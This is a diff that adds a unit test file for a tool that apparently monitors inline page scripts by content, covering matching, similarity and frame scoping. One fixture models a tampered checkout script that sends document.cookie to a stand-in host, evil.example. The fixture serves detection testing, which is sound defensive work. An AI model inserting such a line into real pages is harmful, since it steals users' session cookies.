@@ -1,0 +1,48 @@
+// Unit: stable identities for inline and runtime code, matched by content.
+
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import type { KnownScript } from '../../src/baseline.js';
+import { frameScope, matchAnonymous, similarity, stripFragment } from '../../src/identity.js';
+
+function known(id: number, body: string, sha: string): KnownScript {
+  return { id, key: `inline:${sha}`, kind: 'inline', url: null, frameUrl: 'https://shop.example/', retired: false, missingStreak: 0, accepted: [sha], lastSha: sha, lastBody: body };
+}
+
+describe('matchAnonymous', () => {
+  const a = known(1, 'var config = { currency: "EUR" };\nwindow.init(config);', 'aaa');
+  const b = known(2, 'window.dataLayer = [];\ndataLayer.push({ page: "checkout" });', 'bbb');
+
+  it('matches identical content regardless of order', () => {
+    const matches = matchAnonymous([{ index: 0, sha256: 'bbb', body: b.lastBody! }, { index: 1, sha256: 'aaa', body: a.lastBody! }], [a, b]);
+    assert.deepEqual([...matches.entries()].sort(), [[0, 2], [1, 1]]);
+  });
+
+  it('pairs a modified script with the one it most resembles', () => {
+    const modified = 'window.dataLayer = [];\ndataLayer.push({ page: "checkout" });\nnew Image().src = "https://evil.example/?" + document.cookie;';
+    const matches = matchAnonymous([{ index: 0, sha256: 'aaa', body: a.lastBody! }, { index: 1, sha256: 'ccc', body: modified }], [a, b]);
+    assert.equal(matches.get(1), 2);
+    assert.equal(matches.get(0), 1);
+  });
+
+  it('leaves a genuinely new script unmatched when nothing is free', () => {
+    const matches = matchAnonymous([
+      { index: 0, sha256: 'aaa', body: a.lastBody! },
+      { index: 1, sha256: 'bbb', body: b.lastBody! },
+      { index: 2, sha256: 'ddd', body: 'totally different();' },
+    ], [a, b]);
+    assert.equal(matches.has(2), false);
+  });
+});
+
+describe('identity helpers', () => {
+  it('scores similarity between 0 and 1', () => {
+    assert.equal(similarity('a;b;c', 'a;b;c'), 1);
+    assert.equal(similarity('a', 'b'), 0);
+  });
+  it('scopes subframe scripts by frame URL without query or fragment', () => {
+    assert.equal(frameScope({ isMainFrame: true, frameUrl: 'https://a/' }), '');
+    assert.equal(frameScope({ isMainFrame: false, frameUrl: 'https://pay.example/frame?session=1#x' }), '[frame https://pay.example/frame] ');
+    assert.equal(stripFragment('https://a/x.js#y'), 'https://a/x.js');
+  });
+});
